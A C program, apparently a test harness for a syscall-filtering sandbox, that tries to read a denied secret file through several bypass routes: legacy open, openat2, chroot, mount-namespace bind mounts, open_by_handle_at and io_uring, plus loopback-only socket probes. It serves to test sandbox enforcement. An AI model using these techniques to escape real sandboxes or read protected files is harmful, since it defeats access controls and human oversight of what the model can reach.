/* Ways to read a file that the fs rules deny, each around the fs handler rather than through it.
 * usage: attack MODE PRIVATE_DIR PUBLIC_DIR   (the secret is PRIVATE_DIR/secret)
 * Prints "SECRET via MODE: <content>" when it read the file, else "refused: STEP: errno N".
 * The network modes reach a peer instead, 127.0.0.1:PORT given as PRIVATE_DIR: "packet" opens a
 * packet socket (write() on it reaches any peer), "sendmmsg" sends a UDP datagram, "socketcall"
 * (i386) connects over TCP through the multiplexer. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *mode, *private_dir, *public_dir;
static char secret[4096], exposed[4096];

static int refused(const char *step) {
    printf("refused: %s: errno %d\n", step, errno);
    return 1;
}

static int show(int fd) {
    char buf[256];
    if (fd < 0)
        return refused("open");
    ssize_t n = read(fd, buf, sizeof buf - 1);
    if (n < 0)
        return refused("read");
    buf[n] = 0;
    printf("SECRET via %s: %s", mode, buf);
    return 0;
}

/* In a new mount namespace: put the private directory over the public one, open it there. */
static int bind_and_read(void) {
    if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
        return refused("mount private");
    if (mount(private_dir, public_dir, NULL, MS_BIND, NULL) < 0)
        return refused("mount bind");
    return show(open(exposed, O_RDONLY));
}

static int in_child(long pid) {
    if (pid < 0)
        return refused(mode);
    if (pid == 0) {
        fflush(stdout);
        _exit(bind_and_read());
    }
    int status;
    waitpid(pid, &status, 0);
    return WIFEXITED(status) ? WEXITSTATUS(status) : 2;
}

struct ring { unsigned *head, *tail, *mask, *array; void *base; };

static int uring(void) {
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    int fd = syscall(SYS_io_uring_setup, 4, &p);
    if (fd < 0)
        return refused("io_uring_setup");
    char *sq = mmap(0, p.sq_off.array + p.sq_entries * sizeof(unsigned), PROT_READ | PROT_WRITE,
                    MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_SQ_RING);
    char *cq = mmap(0, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE,
                    MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_CQ_RING);
    struct io_uring_sqe *sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
                                     MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED)
        return refused("mmap");
    memset(&sqes[0], 0, sizeof sqes[0]);
    sqes[0].opcode = IORING_OP_OPENAT;
    sqes[0].fd = AT_FDCWD;
    sqes[0].addr = (uintptr_t)secret;
    sqes[0].open_flags = O_RDONLY;
    unsigned *tail = (unsigned *)(sq + p.sq_off.tail), *array = (unsigned *)(sq + p.sq_off.array);
    array[*tail & *(unsigned *)(sq + p.sq_off.ring_mask)] = 0;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
        return refused("io_uring_enter");
    unsigned head = *(unsigned *)(cq + p.cq_off.head);
    struct io_uring_cqe *cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
    int res = cqes[head & *(unsigned *)(cq + p.cq_off.ring_mask)].res;
    if (res < 0) {
        errno = -res;
        return refused("IORING_OP_OPENAT");
    }
    return show(res);
}

struct open_how_ { uint64_t flags, mode, resolve; };
struct clone_args_ { uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls; };

int main(int argc, char **argv) {
    if (argc != 4)
        return 2;
    mode = argv[1], private_dir = argv[2], public_dir = argv[3];
    snprintf(secret, sizeof secret, "%s/secret", private_dir);
    snprintf(exposed, sizeof exposed, "%s/secret", public_dir);
    setvbuf(stdout, NULL, _IONBF, 0);
    if (!strcmp(mode, "read"))                       /* the control: the plain way */
        return show(open(secret, O_RDONLY));
    if (!strcmp(mode, "open"))                       /* the legacy syscall, not libc's openat */
        return show(syscall(SYS_open, secret, O_RDONLY));
    if (!strcmp(mode, "openat2")) {
        struct open_how_ how = {O_RDONLY, 0, 0};
        return show(syscall(SYS_openat2, AT_FDCWD, secret, &how, sizeof how));
    }
    if (!strcmp(mode, "chroot")) {                   /* the rules then see "/secret" */
        if (chroot(private_dir) < 0)
            return refused("chroot");
        if (chdir("/") < 0)
            return refused("chdir");
        return show(open("/secret", O_RDONLY));
    }
    if (!strcmp(mode, "unshare")) {
        if (unshare(CLONE_NEWNS) < 0)
            return refused("unshare");
        return bind_and_read();
    }
    if (!strcmp(mode, "userns")) {                   /* for an unprivileged user */
        if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
            return refused("unshare");
        return bind_and_read();
    }
    if (!strcmp(mode, "clone"))
        return in_child(syscall(SYS_clone, CLONE_NEWNS | SIGCHLD, 0, 0, 0, 0));
#ifdef SYS_clone3
    if (!strcmp(mode, "clone3")) {
        struct clone_args_ args = {.flags = CLONE_NEWNS, .exit_signal = SIGCHLD};
        return in_child(syscall(SYS_clone3, &args, sizeof args));
    }
#endif
    if (!strcmp(mode, "handle")) {                   /* open by inode: no path to check */
        struct { struct file_handle h; unsigned char bytes[128]; } fh;
        int mount_id;
        fh.h.handle_bytes = sizeof fh.bytes;
        if (name_to_handle_at(AT_FDCWD, secret, &fh.h, &mount_id, 0) < 0)
            return refused("name_to_handle_at");
        int dir = open(public_dir, O_RDONLY | O_DIRECTORY);
        if (dir < 0)
            return refused("open public");
        int fd = open_by_handle_at(dir, &fh.h, O_RDONLY);
        if (fd < 0)
            return refused("open_by_handle_at");
        return show(fd);
    }
    if (!strcmp(mode, "uring"))
        return uring();
#ifdef SYS_fstatat64
    if (!strcmp(mode, "fstatat64")) {                /* i386's newfstatat: the handler answers only the latter */
        char st[256];
        if (syscall(SYS_fstatat64, AT_FDCWD, secret, st, 0) < 0)
            return refused("fstatat64");
        printf("SECRET via %s: the size of the file\n", mode);
        return 0;
    }
#endif
    if (!strcmp(mode, "packet")) {                   /* a packet socket sends to any peer with write() */
        if (socket(AF_PACKET, SOCK_RAW, 0) < 0)
            return refused("socket");
        printf("SECRET via %s: a packet socket\n", mode);
        return 0;
    }
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(atoi(private_dir)),
                               .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    if (!strcmp(mode, "sendmmsg")) {
        int s = socket(AF_INET, SOCK_DGRAM, 0);
        struct iovec iov = {"datagram", 8};
        struct mmsghdr msg = {.msg_hdr = {.msg_name = &peer, .msg_namelen = sizeof peer, .msg_iov = &iov,
                                          .msg_iovlen = 1}};
        if (s < 0)
            return refused("socket");
        if (sendmmsg(s, &msg, 1, 0) != 1)
            return refused("sendmmsg");
        printf("SECRET via %s: sent\n", mode);
        return 0;
    }
#ifdef SYS_socketcall
    if (!strcmp(mode, "socketcall")) {
        unsigned long create[3] = {AF_INET, SOCK_STREAM, 0};
        long s = syscall(SYS_socketcall, 1 /* SYS_SOCKET */, create);
        if (s < 0)
            return refused("socketcall socket");
        unsigned long connect[3] = {s, (unsigned long)&peer, sizeof peer};
        if (syscall(SYS_socketcall, 3 /* SYS_CONNECT */, connect) < 0)
            return refused("socketcall connect");
        printf("SECRET via %s: connected\n", mode);
        return 0;
    }
#endif
    printf("unknown mode %s\n", mode);
    return 2;
}
